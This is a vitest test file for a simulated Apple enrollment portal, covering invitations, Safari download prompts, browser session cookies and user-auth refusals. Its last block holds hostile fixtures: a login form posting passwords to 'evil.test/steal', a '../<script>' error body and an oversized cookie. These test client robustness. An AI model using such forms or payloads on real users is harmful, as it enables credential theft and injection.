// SPDX-License-Identifier: MIT
/**
 * User-initiated enrollment in the browser: the enrollment portal (login, invitations with a lifetime)
 * and Safari's download prompt. Shipped scenarios over loopback against the embedded server, and the
 * real lifetimes on virtual time with the Apple half on in-memory listeners.
 */
import { join } from "node:path";
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { loadCatalog } from "../../src/runner/catalog-files.js";
import { EMBEDDED_ACCOUNT_PASSWORD } from "../../src/wire/apple/embedded.js";
import { describe, expect, it } from "vitest";
import { loadScenario, runScenario } from "../../src/api/run-scenario.js";
import { createDevice } from "../../src/api/device.js";
import { NodeCrypto } from "../../src/platform/node/crypto.js";
import { VirtualClock } from "../../src/platform/virtual/clock.js";
import { InMemoryHttp } from "../../src/platform/virtual/http.js";
import type { HttpHandler } from "../../src/ports/http.js";
import { ReferenceServer } from "../../src/server/reference-server.js";
import { AppleServer, type AppleServerConfig } from "../../src/server/apple/server.js";
import { PolicyEngine } from "../../src/server/policy/engine.js";
import { testKeys } from "../support/scep-harness.js";

const failing = (f: string) => join(import.meta.dirname, "../../scenarios/failures", f);
const opts = { keyPoolSize: 24, progress: false as const, capacity: false as const };

describe("user-initiated enrollment in Safari (shipped scenarios, loopback)", () => {
  it("apple-invitation-single-use: the second device of the user is refused InvitationUsed; two uses enroll both under the user", async () => {
    const { summary } = await runScenario(failing("apple-invitation-single-use-failing.yaml"), opts);
    expect(summary.ok).toBe(true);
    expect(summary.outcomes).toEqual({ "apple.enrolled": 1, "apple.profile.refused.InvitationUsed": 1 });
    const fixed = await runScenario(failing("apple-invitation-single-use-fixed.yaml"), opts);
    expect(fixed.summary).toMatchObject({ devices: 2, enrolled: 2, ok: true });
  }, 120_000);

  it("ios-safari-download-ignored: Ignore (iPhone) and not allowing downloads (Mac) install nothing; Allow enrolls", async () => {
    const { summary } = await runScenario(failing("ios-safari-download-ignored-failing.yaml"), opts);
    expect(summary.ok).toBe(true);
    expect(summary.outcomes).toEqual({ "apple.enrolled": 2, "apple.profile.download-ignored": 3 });
    expect(summary.errors["apple.profile.download-ignored"]).toMatchObject({ step: "profile.download-prompt", shown: { screen: "Safari" } });
    // Nothing of the ignored download reached the MDM: only the allowing users checked in.
    expect(summary.steps["checkin.authenticate"]).toMatchObject({ count: 2 });
    const fixed = await runScenario(failing("ios-safari-download-ignored-fixed.yaml"), opts);
    expect(fixed.summary).toMatchObject({ devices: 5, enrolled: 5, ok: true });
  }, 120_000);

  it("apple-invitation-expired: the late users are refused InvitationExpired; a new invitation enrolls them under their user", async () => {
    const { summary } = await runScenario(failing("apple-invitation-expired-failing.yaml"), opts);
    expect(summary.ok).toBe(true);
    expect(summary.outcomes).toEqual({ "apple.enrolled": 1, "apple.profile.refused.InvitationExpired": 2 });
    expect(summary.errors["apple.profile.refused.InvitationExpired"]).toMatchObject({ step: "portal.login", shown: { text: expect.stringContaining("has expired") as unknown as string } });
    const fixed = await runScenario(failing("apple-invitation-expired-fixed.yaml"), opts);
    expect(fixed.summary).toMatchObject({ devices: 3, enrolled: 3, ok: true });
  }, 240_000);

  it("ios-byod-idp-session-other-browser: Chrome and Brave download a profile without the sign-in session and their install is refused 403; in Safari all enroll; no password or session in the trace", async () => {
    const dir = join(mkdtempSync(join(tmpdir(), "apple-idp-browser-")), "trace");
    const { summary } = await runScenario(failing("ios-byod-idp-session-other-browser-failing.yaml"), { ...opts, trace: dir });
    expect(summary.ok).toBe(true);
    expect(summary.outcomes).toEqual({ "apple.enrolled": 1, "apple.checkin.http-403": 2 });
    expect(summary.errors["apple.checkin.http-403"]).toMatchObject({
      step: "checkin.authenticate",
      shown: { code: "MCHTTPTransactionErrorDomain 23001", text: "Profile Installation Failed. Connection to the server could not be established.", cause: { code: "HTTP 403" } },
    });
    // Every device signed in and downloaded a profile: the refusal is at the install, as in the ticket.
    expect(summary.steps["portal.login"]).toMatchObject({ count: 3 });
    expect(summary.steps["profile.download"]).toMatchObject({ count: 3 });
    for (const f of readdirSync(dir)) {
      const text = readFileSync(join(dir, f), "utf8");
      expect(text).not.toMatch(/enrollsim_portal_session=[0-9a-f]{8}-/);
      expect(text).not.toContain(EMBEDDED_ACCOUNT_PASSWORD);
    }
    const chrome = readdirSync(dir)
      .map((f) => readFileSync(join(dir, f), "utf8"))
      .find((t) => t.includes("Chrome's profile download carries none of its cookies"));
    expect(chrome).toBeDefined();
    const fixed = await runScenario(failing("ios-byod-idp-session-other-browser-fixed.yaml"), opts);
    expect(fixed.summary).toMatchObject({ devices: 3, enrolled: 3, ok: true });
  }, 240_000);

  it("macos-manual-enrollment-idp-required: the Mac whose profile came without a sign-in is refused 401 at Authenticate by a team requiring user auth; moved to a team without it, it enrolls", async () => {
    const { summary } = await runScenario(failing("macos-manual-enrollment-idp-required-failing.yaml"), opts);
    expect(summary.ok).toBe(true);
    expect(summary.outcomes).toEqual({ "apple.enrolled": 1, "apple.checkin.refused": 1 });
    expect(summary.errors["apple.checkin.refused"]).toMatchObject({
      step: "checkin.authenticate",
      shown: { code: "MCHTTPTransactionErrorDomain 23001", text: "Profile Installation Failed. Connection to the server could not be established.", cause: { code: "HTTP 401" } },
    });
    // Both Macs downloaded a profile: the refusal is at the install, as in the ticket.
    expect(summary.steps["profile.download"]).toMatchObject({ count: 2 });
    const fixed = await runScenario(failing("macos-manual-enrollment-idp-required-fixed.yaml"), opts);
    expect(fixed.summary).toMatchObject({ devices: 2, enrolled: 2, ok: true });
  }, 240_000);

  it("a misspelt userAuth is refused at load with file:line:column and a did-you-mean", async () => {
    const bad = join(mkdtempSync(join(tmpdir(), "apple-user-auth-")), "typo.yaml");
    writeFileSync(bad, readFileSync(failing("macos-manual-enrollment-idp-required-failing.yaml"), "utf8").replace("      userAuth: required\n", "      userAuth: requird\n"));
    await expect(loadScenario(bad)).rejects.toThrow(/typo\.yaml:\d+:\d+: embedded\.apple\.portal\.userAuth must be one of required, optional \(got "requird"\) \(did you mean "required"\?\)/);
  });
});

const START = Date.UTC(2026, 11, 7, 8);
const URLS = { http: "http://ref.test", https: "https://ref.test" };
const crypto = new NodeCrypto();

async function world(config: Partial<AppleServerConfig>, users: string[]) {
  const clock = new VirtualClock(START);
  const keys = await testKeys();
  const ref = await ReferenceServer.create({ keys: { ca: await keys.rsa(7) }, now: () => clock.now(), crypto });
  const policy = new PolicyEngine({ directory: { users: users.map((upn) => ({ upn })) } }, () => clock.now());
  const apple = new AppleServer({ crypto, now: () => clock.now(), scep: ref.scep, urls: () => URLS, config, policy }, config);
  await apple.warm();
  const route: HttpHandler = (req) => (new URL(req.url).pathname.startsWith("/apple/") ? apple.handler(req) : ref.handler(req));
  const http = new InMemoryHttp({ clock, handler: { [URLS.http]: route, [URLS.https]: route } });
  const catalog = loadCatalog();
  const runFlow = async (model: string, index: number, flow: string, portal: Record<string, string>, browser?: string) => {
    const dev = await createDevice({ model, index, seed: "apple-portal", keys, catalog, adapters: { clock, http, crypto }, ...(browser ? { state: { browser } } : {}) });
    return clock.run(dev.run(flow, { apple: { portal } }, { scepUrl: `${URLS.http}/scep`, server: { ...URLS, embedded: true } }), 3_600_000);
  };
  return { clock, apple, policy, runFlow };
}

describe("enrollment portal on virtual time (the real lifetime)", () => {
  it("an invitation valid for 1 day: a login 23 h in enrolls under the user, 25 h in it is refused as expired", async () => {
    const w = await world({ portal: { login: true, invitations: [{ id: "inv", expiresAfter: "1d" }] } }, ["ana@contoso.example", "ben@contoso.example"]);
    await w.clock.advance(23 * 3_600_000);
    const ok = await w.runFlow("iphone-15", 0, "ios-profile", { invitation: "inv", user: "ana@contoso.example" });
    expect(ok).toMatchObject({ ok: true, code: "apple.enrolled" });
    // The record keeps the user the portal logged in: the Apple record and the tenant's (policy) record.
    const rec = [...w.apple.devices.values()][0]!;
    expect(rec.portalUser).toBe("ana@contoso.example");
    expect(w.policy.enrollments.get(rec.udid)?.upn).toBe("ana@contoso.example");
    await w.clock.advance(2 * 3_600_000);
    const late = await w.runFlow("macbook-air-m3", 1, "macos-profile", { invitation: "inv", user: "ben@contoso.example" });
    expect(late).toMatchObject({ ok: false, code: "apple.profile.refused.InvitationExpired", step: "portal.login", shown: { screen: "Safari" } });
    expect(w.apple.portal.invitations()).toEqual([{ id: "inv", status: "expired", used: 1 }]);
  }, 120_000);

  it("a user outside the directory, or a wrong password, is refused at the login: nothing downloaded", async () => {
    const w = await world({ portal: { login: true } }, ["ana@contoso.example"]);
    const stranger = await w.runFlow("iphone-15", 0, "ios-profile", { user: "eve@contoso.example" });
    expect(stranger).toMatchObject({ ok: false, code: "apple.portal.login-failed", step: "portal.login" });
    const typo = await w.runFlow("iphone-15", 1, "ios-profile", { user: "ana@contoso.example", password: "wrong" });
    expect(typo).toMatchObject({ ok: false, code: "apple.portal.login-failed" });
    expect(w.apple.stats.profiles).toBe(0);
    expect(w.apple.devices.size).toBe(0);
  }, 120_000);

  it("an invitation without login: Assign to user links a directory user (or none when left blank); uses: 2 lets two devices through", async () => {
    const w = await world({ portal: { invitations: [{ id: "two", uses: 2 }] } }, ["ana@contoso.example"]);
    expect(await w.runFlow("iphone-15", 0, "ios-profile", { invitation: "two", user: "ana@contoso.example" })).toMatchObject({ ok: true });
    expect(await w.runFlow("iphone-15", 1, "ios-profile", { invitation: "two" })).toMatchObject({ ok: true });
    expect(await w.runFlow("iphone-15", 2, "ios-profile", { invitation: "two" })).toMatchObject({ ok: false, code: "apple.profile.refused.InvitationUsed" });
    expect([...w.apple.devices.values()].map((d) => d.portalUser ?? null).sort()).toEqual(["ana@contoso.example", null]);
    const w2 = await world({ portal: { invitations: [{ id: "x" }] } }, ["ana@contoso.example"]);
    expect(await w2.runFlow("iphone-15", 0, "ios-profile", { invitation: "x", user: "typo@contoso.example" })).toMatchObject({ ok: false, code: "apple.profile.refused.UserNotFound", step: "portal.login" });
  }, 120_000);

  it("userAuth required: the plain URL's profile is refused 401 at Authenticate with Fleet's log line and no record; the signed-in user enrolls", async () => {
    const w = await world({ portal: { userAuth: "required", invitations: [{ id: "sso", requireLogin: true }] } }, ["ana@contoso.example"]);
    const direct = await w.runFlow("macbook-air-m3", 0, "macos-profile", {});
    expect(direct).toMatchObject({ ok: false, code: "apple.checkin.refused", step: "checkin.authenticate", shown: { cause: { code: "HTTP 401" } } });
    expect(w.apple.stats.rejected["checkin.portal.user-auth-required"]).toBe(1);
    expect(w.apple.log).toContain("checkin.portal.user-auth-required: Authentication failed");
    expect(w.apple.log).toContain("checkin.portal.user-auth-required: internal: required idp uuid to be set, but none found");
    // Refused before the tenant rules: no Apple record, no tenant record (no seat taken).
    expect(w.apple.devices.size).toBe(0);
    expect(w.policy.enrollments.size).toBe(0);
    const signed = await w.runFlow("macbook-air-m3", 1, "macos-profile", { invitation: "sso", user: "ana@contoso.example" });
    expect(signed).toMatchObject({ ok: true, code: "apple.enrolled" });
    expect([...w.apple.devices.values()].map((d) => d.portalUser)).toEqual(["ana@contoso.example"]);
  }, 120_000);
});

describe("a sign-in session cookie at the portal, per browser (virtual time)", () => {
  it("withoutSession refuse-download: Chrome's download without the session is refused 403 SignInRequired on Chrome's screen; Safari's carries it and enrolls under the user", async () => {
    const w = await world({ portal: { login: true, session: "cookie" } }, ["ana@contoso.example"]);
    const chrome = await w.runFlow("iphone-15", 0, "ios-profile", { user: "ana@contoso.example" }, "chrome");
    expect(chrome).toMatchObject({ ok: false, code: "apple.profile.refused.SignInRequired", step: "profile.download", shown: { screen: "Chrome", text: "Sign in to download the enrollment profile." } });
    expect(w.apple.stats.profiles).toBe(0);
    const safari = await w.runFlow("iphone-15", 1, "ios-profile", { user: "ana@contoso.example" }, "safari");
    expect(safari).toMatchObject({ ok: true, code: "apple.enrolled" });
    expect([...w.apple.devices.values()].map((d) => d.portalUser)).toEqual(["ana@contoso.example"]);
  }, 120_000);

  it("the session lives in the link (session: link, the default): every browser's download names the user", async () => {
    const w = await world({ portal: { login: true } }, ["ana@contoso.example"]);
    expect(await w.runFlow("ipad-air-m2", 0, "ios-profile", { user: "ana@contoso.example" }, "brave")).toMatchObject({ ok: true, code: "apple.enrolled" });
  }, 120_000);

  it("a browser with no row for the device is the scenario's error, naming the browsers that have one", async () => {
    const w = await world({ portal: { login: true, session: "cookie" } }, ["ana@contoso.example"]);
    await expect(w.runFlow("iphone-15", 0, "ios-profile", { user: "ana@contoso.example" }, "firefox")).rejects.toThrow(/browser "firefox"[\s\S]*chrome/);
  }, 120_000);
});

describe("enrollment portal: hostile or off-spec answers are typed results, never a crash", () => {
  const page = (html: string) => ({ status: 200, headers: { "content-type": "text/html" }, body: new Uint8Array(Buffer.from(html)), url: "" });
  const cases: [string, (req: { method: string; url: string }) => { status: number; headers: Record<string, string>; body: Uint8Array; url: string }, string][] = [
    ["a page without a login form", () => page("<html><body>maintenance</body></html>"), "apple.portal.page"],
    ["a form posting to another origin", () => page('<form method="post" action="https://evil.test/steal"><input name="u"><input type="password" name="p"></form>'), "apple.portal.page"],
    ["a login answered 200 without a redirect", (req) => (req.method === "GET" ? page('<form method="post" action="/login"><input name="u"><input type="password" name="p"></form>') : page("ok")), "apple.portal.page"],
    ["a 403 with a hostile body", () => ({ status: 403, headers: { "content-type": "application/json" }, body: new Uint8Array(Buffer.from(JSON.stringify({ code: "../<script>", message: 42 }))), url: "" }), "apple.profile.refused"],
    ["a 401 with garbage", () => ({ status: 401, headers: { "content-type": "application/json" }, body: new Uint8Array(Buffer.from("{not json")), url: "" }), "apple.portal.login-failed"],
  ];
  it("a hostile Set-Cookie (larger than a browser keeps) is dropped: the login post carries no cookie; a normal one is sent back", async () => {
    const clock = new VirtualClock(START);
    const keys = await testKeys();
    const sent: (string | undefined)[] = [];
    const login = '<form method="post" action="/login"><input name="u"><input type="password" name="p"></form>';
    const http = new InMemoryHttp({
      clock,
      handler: {
        [URLS.https]: async (req) => {
          if (req.method === "GET") return { ...page(login), headers: { "content-type": "text/html", "set-cookie": req.url.includes("small") ? "site=1; Path=/" : `big=${"x".repeat(100_000)}; Path=/` } };
          sent.push(req.headers?.["cookie"]);
          return page("ok");
        },
      },
    });
    const dev = await createDevice({ model: "iphone-15", index: 0, seed: "apple-portal-hostile", keys, adapters: { clock, http, crypto } });
    const r = await clock
      .run(dev.run("ios-profile", { apple: { profileUrl: `${URLS.https}/enroll`, portal: { user: "ana@contoso.example", password: "pw" } } }, { scepUrl: `${URLS.http}/scep`, server: { ...URLS, embedded: false } }))
      .catch((e: unknown) => ({ ok: false, code: (e as { code?: string }).code }));
    expect(r).toMatchObject({ ok: false, code: "apple.portal.page" });
    // A cookie of a browser's size is kept and sent back with the login.
    const dev2 = await createDevice({ model: "iphone-15", index: 1, seed: "apple-portal-hostile", keys, adapters: { clock, http, crypto } });
    await clock
      .run(dev2.run("ios-profile", { apple: { profileUrl: `${URLS.https}/enroll?small=1`, portal: { user: "ana@contoso.example", password: "pw" } } }, { scepUrl: `${URLS.http}/scep`, server: { ...URLS, embedded: false } }))
      .catch(() => undefined);
    expect(sent).toEqual([undefined, "site=1"]);
  }, 60_000);

  it.each(cases)(
    "%s",
    async (_name, answer, code) => {
      const clock = new VirtualClock(START);
      const keys = await testKeys();
      const http = new InMemoryHttp({ clock, handler: { [URLS.https]: async (req) => answer(req) } });
      const dev = await createDevice({ model: "iphone-15", index: 0, seed: "apple-portal-hostile", keys, adapters: { clock, http, crypto } });
      const run = clock.run(dev.run("ios-profile", { apple: { profileUrl: `${URLS.https}/enroll`, portal: { user: "ana@contoso.example", password: "pw" } } }, { scepUrl: `${URLS.http}/scep`, server: { ...URLS, embedded: false } }));
      const r = await run.catch((e: unknown) => ({ ok: false, code: (e as { code?: string }).code }));
      expect(r).toMatchObject({ ok: false, code });
    },
    60_000,
  );
});
